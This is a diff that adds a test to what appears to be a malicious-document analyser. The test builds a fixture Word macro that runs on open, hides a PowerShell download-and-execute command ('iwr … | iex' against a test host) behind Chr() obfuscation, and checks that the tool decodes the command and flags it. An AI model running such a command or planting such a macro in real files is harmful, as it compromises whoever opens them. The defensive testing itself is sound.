@@ -50,6 +50,19 @@ async def test_the_source_of_macros_is_evidence_and_their_acts_are_findings(
     assert result.result["iocs"]["urls"][0]["defanged"] == "hxxp://203[.]0[.]113[.]7/x"
 
 
+async def test_what_a_macro_hides_is_peeled(documents: Extract) -> None:
+    order = f"powershell iwr {made.HOST}/a | iex"
+    codes = " & ".join(f"Chr({ord(character)})" for character in order)
+
+    result = await documents(
+        made.docm(Main=f"Sub AutoOpen()\r\nx = {codes}\r\nCallByName o, f, 1, x\r\nEnd Sub")
+    )
+
+    assert order in evidence(result, "macros-peeled.txt")
+    assert found(result) >= {"macro-autostart", "macro-is-disguised", "macro-runs-programs"}
+    assert result.result["iocs"]["urls"][0]["value"] == f"{made.HOST}/a"
+
+
 async def test_a_macro_that_does_nothing_of_note_gets_no_score(documents: Extract) -> None:
     result = await documents(made.docm(Main=CLEAN_MACRO))
 
